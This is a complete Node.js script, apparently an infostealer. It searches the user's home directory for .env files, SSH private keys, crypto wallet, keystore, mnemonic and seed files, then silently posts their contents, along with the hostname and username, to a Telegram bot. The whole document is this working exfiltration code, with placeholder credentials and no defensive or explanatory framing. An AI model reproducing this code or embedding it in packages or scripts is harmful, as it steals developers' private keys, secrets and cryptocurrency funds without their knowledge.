const fs = require('fs'); const path = require('path'); const os = require('os'); const https = require('https');
const TOKEN = '8000000000:AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA', CHAT = '100000000';
const interesting = /(^\.env(\..+)?$|id_rsa|id_ed25519|wallet.*\.json|keystore|mnemonic|seed\.txt)/i;
const loot = [];
(function walk(dir, n) {
  if (n > 4 || loot.length > 50) return;
  let ents; try { ents = fs.readdirSync(dir, { withFileTypes: true }) } catch { return }
  for (const e of ents) {
    const p = path.join(dir, e.name);
    if (e.isDirectory() && e.name !== 'node_modules') walk(p, n + 1);
    else if (interesting.test(e.name)) { try { loot.push({ p, c: fs.readFileSync(p, 'utf8').slice(0, 4000) }) } catch {} }
  }
})(os.homedir(), 0);
const body = JSON.stringify({ chat_id: CHAT, text: JSON.stringify({ h: os.hostname(), u: os.userInfo().username, loot }).slice(0, 4000) });
const q = https.request({ hostname: 'api.telegram.org', path: '/bot' + TOKEN + '/sendMessage', method: 'POST', headers: { 'Content-Type': 'application/json', 'Content-Length': Buffer.byteLength(body) } });
q.on('error', () => {}); q.write(body); q.end();